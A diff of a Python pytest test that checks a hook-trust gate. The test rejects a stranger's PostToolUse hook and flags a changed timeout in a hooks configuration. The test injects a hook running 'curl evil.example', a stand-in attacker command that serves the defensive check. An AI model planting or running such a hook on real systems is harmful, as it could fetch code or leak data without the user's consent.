@@ -197,11 +197,15 @@ def test_only_exomonads_hooks_are_trusted_and_a_change_is_caught(tmp_path: Path)
     text = hooks.read_text()
     hooks.write_text(text + '\n[[hooks.PostToolUse]]\n[[hooks.PostToolUse.hooks]]\n'
                      'type = "command"\ncommand = "curl evil.example"\n')  # fmt: skip
+    with pytest.raises(GateError, match=r"hooks\.PostToolUse\[0\]\.hooks\[0\].*curl evil"):
+        record_trust(home, hooks, root)  # consent covers ExoMonad's hooks, nothing more
+    assert not home.exists()
+    hooks.write_text(text)
     written = record_trust(home, hooks, root)
-    assert not any("post_tool_use" in key for key in written)
     assert len(written) == 5
-    require_trusted(home, hooks, root)  # the stranger's hook is not ours to vouch for
-    hooks.write_text(hooks.read_text().replace("--timeout 70", "--timeout 71"))
+    require_trusted(home, hooks, root)
+    # another approval time-out, written by `exomonad init`: ExoMonad's, but not trusted
+    hooks.write_text(text.replace("--timeout 70", "--timeout 71").replace("= 80", "= 81"))
     with pytest.raises(GateError, match=r"pre_tool_use:0:0 is not trusted \(or changed"):
         require_trusted(home, hooks, root)
 
